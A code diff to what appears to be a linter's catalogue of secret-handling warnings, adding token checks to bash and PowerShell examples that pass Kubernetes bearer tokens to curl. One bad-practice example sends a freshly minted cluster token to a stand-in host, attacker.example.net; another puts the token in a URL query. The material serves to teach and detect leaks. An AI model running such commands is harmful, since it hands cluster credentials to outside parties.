@@ -1,5 +1,12 @@
 /** KS51xx: where secrets go. */
-import { bash, type Explanation, powershell, script } from './explanation.js';
+import {
+  bash,
+  type Explanation,
+  powershell,
+  powershellTokenCheck,
+  script,
+  tokenCheck,
+} from './explanation.js';
 
 const token = 'TOKEN=$(kubectl create token default --context=lab)';
 const header = `printf 'header = "Authorization: Bearer %s"\\n' "$TOKEN" |`;
@@ -13,19 +20,20 @@ export const secretCodes = {
       bash(
         script(
           token,
+          tokenCheck,
           'curl -q --fail --max-time 10 --header "Authorization: Bearer $TOKEN" https://lab.example.com:6443/api',
         ),
-        script(token, header, call),
+        script(token, tokenCheck, header, call),
       ),
       powershell(
         script(
-          '$token = kubectl create token default --context=lab',
-          "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
+          '[string] $token = kubectl create token default --context=lab',
+          powershellTokenCheck,
           'curl.exe --disable --fail --max-time 10 --header "Authorization: Bearer $token" https://lab.example.com:6443/api',
         ),
         script(
-          '$token = kubectl create token default --context=lab',
-          "if ($LASTEXITCODE -ne 0) { throw 'no token' }",
+          '[string] $token = kubectl create token default --context=lab',
+          powershellTokenCheck,
           "'header = \"Authorization: Bearer ' + $token + '\"' |",
           '  curl.exe --disable --config - --fail --max-time 10 https://lab.example.com:6443/api',
         ),
@@ -39,10 +47,11 @@ export const secretCodes = {
       bash(
         script(
           token,
+          tokenCheck,
           `printf 'url = "https://lab.example.com:6443/api?token=%s"\\n' "$TOKEN" |`,
           '  curl -q --config - --fail --max-time 10',
         ),
-        script(token, header, call),
+        script(token, tokenCheck, header, call),
       ),
     ],
   },
@@ -89,8 +98,13 @@ export const secretCodes = {
     fix: 'Send it to the server that the kubeconfig names for that cluster.',
     examples: [
       bash(
-        script(token, header, '  curl -q --config - --fail --max-time 10 https://attacker.example.net/api'),
-        script(token, header, call),
+        script(
+          token,
+          tokenCheck,
+          header,
+          '  curl -q --config - --fail --max-time 10 https://attacker.example.net/api',
+        ),
+        script(token, tokenCheck, header, call),
       ),
     ],
   },
